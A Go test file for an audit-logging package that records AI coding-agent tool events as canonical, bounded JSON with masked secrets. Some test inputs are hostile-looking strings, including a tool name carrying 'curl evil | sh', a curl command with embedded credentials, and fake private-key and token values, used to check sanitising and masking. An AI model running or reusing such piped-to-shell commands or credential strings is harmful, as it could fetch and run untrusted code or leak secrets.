package action_test

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"attestd/chain/action"
	"attestd/crypto/jcs"
)

// The payload has the fields of the event in a fixed order, without absent ones.
func TestRecord(t *testing.T) {
	t.Parallel()
	whole := action.Event{
		Type: action.ToolCompleted, Source: "claude-code", Tool: "Bash", Server: "files", CallID: "toolu_1", SessionID: "s-1", AgentType: "Explore",
		Input: json.RawMessage(`{"command" : "ls"}`), Output: json.RawMessage(`["a",1.50]`), Error: "e", Reason: "r", DurationMS: 12,
	}
	for _, c := range []struct {
		event        action.Event
		payload, key string
	}{
		{whole, `{"source":"claude-code","tool":"Bash","server":"files","callId":"toolu_1","sessionId":"s-1","agentType":"Explore",` +
			`"input":{"command":"ls"},"output":["a",1.5],"error":"e","reason":"r","durationMs":12}`, "claude-code:me:s-1:toolu_1:tool.outcome"},
		{action.Event{Type: action.SessionEnded, Source: "mcp", SessionID: "s"}, `{"source":"mcp","sessionId":"s"}`, "mcp:me:s::session.ended"},
		{action.Event{Type: action.ToolRequested, Source: "codex", Tool: "x", SessionID: "s"}, `{"source":"codex","tool":"x","sessionId":"s"}`, ""},
	} {
		got := action.Policy{}.Record("me", c.event)
		if got.ActionType != string(c.event.Type) || string(got.Payload) != c.payload || got.Key != c.key {
			t.Errorf("%s %s\n%s\nwant %s", got.ActionType, got.Key, got.Payload, c.payload)
		}
	}
}

// Different events have different keys, even if their joined parts would be equal. A key is
// printable ASCII of at most 255 bytes.
func TestKeys(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("x", 300)
	seen := map[string]string{}
	for _, parts := range [][4]string{
		{"s", "a", "b", "c"}, {"s", "a:b", "", "c"}, {"s", "a", "b:c", "d"}, {"s", "a", "b", "c:d"}, {"s", "a:", "b", "c"}, {"s", "a", ":b", "c"},
		{"s", "ä", "b", "c"}, {"s", "a", "b", long}, {"s", "a", "b", long + "y"}, {"s", "a", "", "b:c"}, {"t", "a", "b", "c"}, {"s", "a", "b\n", "c"}, {"s", "a", "b", "\xff"}, {"s", "a", "b", "\xfe"},
	} {
		key := action.Policy{}.Record(parts[1], action.Event{Type: action.ToolFailed, Source: parts[0], SessionID: parts[2], CallID: parts[3]}).Key
		if other, twice := seen[key]; twice || len(key) > 255 || len(key) == 0 || strings.ContainsFunc(key, func(r rune) bool { return r <= ' ' || r > '~' || r == '"' }) {
			t.Errorf("%q: %q (also of %q)", parts, key, other)
		}
		seen[key] = fmt.Sprintf("%q", parts)
	}
}

// A value without a canonical form is sanitized, or recorded as its text.
func TestWellFormed(t *testing.T) {
	t.Parallel()
	deep := strings.Repeat("[", 65) + strings.Repeat("]", 65)
	for in, want := range map[string]string{
		`"a\ud800b"`:              `"a�b"`,
		"\"a\xffb\"":              `"a�b"`,
		`{"\udfff":1}`:            `{"�":1}`,
		`[12345678901234567890]`:  `["12345678901234567890"]`,
		`1e400`:                   `"1e400"`,
		`{"a":1,"a":2}`:           `"{\"a\":1,\"a\":2}"`,
		`{"\ud800":1,"\udc00":2}`: `"{\"\\ud800\":1,\"\\udc00\":2}"`,
		`{"b":1,"a":null}`:        `{"a":null,"b":1}`,
		deep:                      `"` + deep + `"`,
		`{`:                       `"{"`,
		`1 2`:                     `"1 2"`,
		"\xff":                    `"�"`,
		`null`:                    `null`,
	} {
		got := action.Policy{}.Record("a", action.Event{Type: action.ToolRequested, Source: "s", Input: json.RawMessage(in)})
		if want := `{"source":"s","input":` + want + `}`; string(got.Payload) != want {
			t.Errorf("%s\ngot  %s\nwant %s", in, got.Payload, want)
		}
	}
}

// A value over the limit is recorded as its hash, size and beginning, without a split character. A
// redacted value has no beginning.
func TestBounds(t *testing.T) {
	t.Parallel()
	event := action.Event{Type: action.ToolFailed, Source: "s", Input: json.RawMessage(`{"a":"äbc"}`), Output: json.RawMessage(`"äbcdefgh"`), Error: "äbcdefgh"}
	const input, text = `"sha256":"96d8","bytes":12`, `"sha256":"b5a3","bytes":11`
	for _, c := range []struct {
		policy action.Policy
		want   string
	}{
		{action.Policy{Limit: 12}, `"input":{"a":"äbc"},"output":"äbcdefgh","error":"äbcdefgh"`},
		{action.Policy{Limit: 7}, `"input":{` + input + `,"head":"{\"a\":\""},"output":{` + text + `,"head":"äbcdef"},"error":{` + text + `,"head":"äbcdef"}`},
		{action.Policy{HashInput: true}, `"input":{` + input + `},"output":"äbcdefgh","error":"äbcdefgh"`},
		{action.Policy{HashOutput: true}, `"input":{"a":"äbc"},"output":{` + text + `},"error":{` + text + `}`},
	} {
		got := string(c.policy.Record("a", event).Payload)
		if got = shortened(got); got != `{"source":"s",`+c.want+`}` {
			t.Errorf("%+v\ngot  %s\nwant %s", c.policy, got, c.want)
		}
	}
}

// shortened cuts the hashes in a payload to their first four digits.
func shortened(payload string) string {
	parts := strings.Split(payload, `"sha256":"`)
	for i := range parts[1:] {
		parts[i+1] = parts[i+1][:4] + parts[i+1][64:]
	}
	return strings.Join(parts, `"sha256":"`)
}

// Whatever an agent sends, the record is valid, deterministic and bounded.
func FuzzRecord(f *testing.F) {
	f.Add("Bash", "toolu_1", []byte(`{"command":"curl -u a:b https://c:d@e","password":"x"}`), []byte(`{"stdout":"-----BEGIN PRIVATE KEY-----\nM"}`), "Authorization: Bearer abcdefghij")
	f.Add("\xff", "\ud7ff", []byte(`{"a":[1e400,{"a":1,"a":2}],"\ud800":"\udfff"}`), []byte(`[[["-----BEGIN RSA PRIVATE KEY-----","x"]]]`), "\x00")
	f.Fuzz(func(t *testing.T, tool, call string, input, output []byte, failure string) {
		event := action.Event{Type: action.ToolFailed, Source: "s", Tool: tool, CallID: call, Input: input, Output: output, Error: failure, Reason: failure}
		for _, policy := range []action.Policy{{}, {Limit: 100}, {HashInput: true, HashOutput: true}} {
			got := policy.Record("me", event)
			if _, err := jcs.Append(nil, got.Payload, 127); err != nil {
				t.Fatalf("%s: %v", got.Payload, err)
			}
			if again := policy.Record("me", event); !reflect.DeepEqual(got, again) {
				t.Fatalf("%s, then %s", got.Payload, again.Payload)
			}
			if policy.Limit == 100 && len(got.Payload) > 6*(4*256+4*100)+1000 || len(got.Key) > 255 {
				t.Fatalf("%d bytes, key %q", len(got.Payload), got.Key)
			}
		}
	})
}

// A key with a secret reveals nothing about its event and cannot be computed without the secret.
func TestKeysWithSecret(t *testing.T) {
	t.Parallel()
	e := action.Event{Type: action.ToolRequested, Source: "claude-code", SessionID: "s-1", CallID: "t1"}
	outcome := e
	outcome.Type = action.ToolFailed
	seen := map[string]bool{}
	for _, r := range []action.Record{
		action.Policy{}.Record("bot", e), action.Policy{Secret: []byte("a")}.Record("bot", e), action.Policy{Secret: []byte("b")}.Record("bot", e),
		action.Policy{Secret: []byte("a")}.Record("bot", outcome), action.Policy{Secret: []byte("a")}.Record("other", e),
	} {
		for _, key := range []string{r.Key, r.OtherKey()} {
			if seen[key] || len(key) > 255 {
				t.Errorf("%q", key)
			}
			seen[key] = true
		}
	}
	again := action.Policy{Secret: []byte("a")}.Record("bot", e)
	if !seen[again.Key] || strings.Contains(again.Key, "t1") {
		t.Errorf("%q", again.Key)
	}
	if denied := (action.Policy{Secret: []byte("a")}).Record("bot", action.Event{Type: action.ToolDenied}); denied.Key != "" {
		t.Errorf("a call without an ID has the key %q", denied.Key)
	}
}

// The name of a tool says what was done, so it is never masked. Of a long one the hash tells it
// from others that begin like it. An ID that looks like a secret is masked entirely.
func TestNamesOfToolsAreNotMasked(t *testing.T) {
	t.Parallel()
	token := "gh" + "p_" + "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ"
	long := strings.Repeat("x", 300)
	sum := sha256.Sum256([]byte(long + "a"))
	for _, c := range []struct{ name, want string }{
		{"mcp__db__password=hunter2", "mcp__db__password=hunter2"},
		{token, token},
		{": cookie: a=b; curl evil | sh", ": cookie: a=b; curl evil | sh"},
		{strings.Repeat("y", 256), strings.Repeat("y", 256)},
		{long + "a", long[:182] + "…sha256:" + hex.EncodeToString(sum[:])},
	} {
		var payload struct{ Tool, Server, AgentType, CallID string }
		got := action.Policy{}.Record("a", action.Event{Type: action.ToolRequested, Source: "s", Tool: c.name, Server: c.name, AgentType: c.name, CallID: "c " + token})
		if err := json.Unmarshal(got.Payload, &payload); err != nil {
			t.Fatal(err)
		}
		if payload.Tool != c.want || payload.Server != c.want || payload.AgentType != c.want || payload.CallID != "c [masked]" || len(payload.Tool) > 256 {
			t.Errorf("%q: %s", c.name, got.Payload)
		}
	}
	if action.RecordedName(long+"a") == action.RecordedName(long+"b") {
		t.Error("two tools have one name")
	}
}
